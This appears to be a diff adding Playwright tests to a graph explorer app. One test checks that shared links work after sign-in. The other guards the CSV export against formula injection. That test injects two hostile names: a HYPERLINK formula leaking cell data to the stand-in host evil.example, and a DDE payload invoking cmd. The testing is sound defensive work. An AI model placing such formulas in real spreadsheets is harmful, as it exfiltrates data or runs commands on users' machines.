@@ -14,7 +14,7 @@ from typing import Any
 
 import httpx
 import pytest
-from playwright.sync_api import BrowserContext, Page, expect
+from playwright.sync_api import BrowserContext, Page, Route, expect
 
 from graph_service.auth import Role
 from graph_service.auth.tokens import LocalIssuer
@@ -217,6 +217,51 @@ def test_the_link_restores_the_view_and_the_exports(page: Page, demo: Demo,
     assert counts(other) == before
     assert sorted(in_view(other)) == sorted(in_view(page))
     other.close()
+
+
+def test_a_link_opened_before_signing_in_shows_its_view_once_signed_in(
+    page: Page, demo: Demo, js_errors: list[str],
+) -> None:  # fmt: skip
+    """A colleague opens a shared link in a fresh tab (no token yet), then pastes theirs."""
+    client = f"ENTERPRISE%3A{demo.client_id}"
+    page.goto(f"{demo.url}/explorer#root={client}&select={client}")
+    expect(page.locator("#graph-status")).to_contain_text("UNAUTHENTICATED")
+    page.get_by_label("Bearer token").fill(demo.manager_token)
+    page.get_by_role("button", name="Use token").click()
+    expect(page.locator("#graph-status")).to_contain_text(f"Network of {demo.client_name}:")
+    expect(page.locator("#panel-node")).to_have_text(f"{demo.client_name} · enterprise")
+    assert counts(page)[0] > 1
+    assert js_errors == []
+
+
+def test_the_csv_export_does_not_hand_formulas_to_a_spreadsheet(page: Page, demo: Demo) -> None:
+    """Names are data: one beginning with =, +, -, @ is written so that a spreadsheet shows
+    it as text instead of running it (the answer is rewritten here, as a hostile name)."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+    def rewrite(route: Route) -> None:
+        answer = route.fetch()
+        body = answer.json()
+        if "clientNetwork" in (body.get("data") or {}):
+            for node in body["data"]["clientNetwork"]["nodes"]:
+                if node["label"] == "ENTERPRISE" and node["id"] == demo.client_id:
+                    node["name"] = hostile
+                elif node["label"] == "PERSON" and not node["masked"]:
+                    node["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+        route.fulfill(response=answer, json=body)
+
+    page.route(f"{demo.url}/graphql", rewrite)
+    sign_in(page, demo)
+    page.get_by_label("Client name or id").fill(demo.client_id)
+    page.locator("#results button", has_text=demo.client_id).first.click()
+    expect(page.locator("#graph-status")).to_contain_text("Network of =HYPERLINK")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Export CSV").click()
+    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"))))
+    names = {row[1]: row[2] for row in rows[1:]}
+    assert names[demo.client_id] == "'" + hostile
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names.values()
+    assert not [row for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
 
 
 def test_keyboard_alone(page: Page, demo: Demo) -> None:
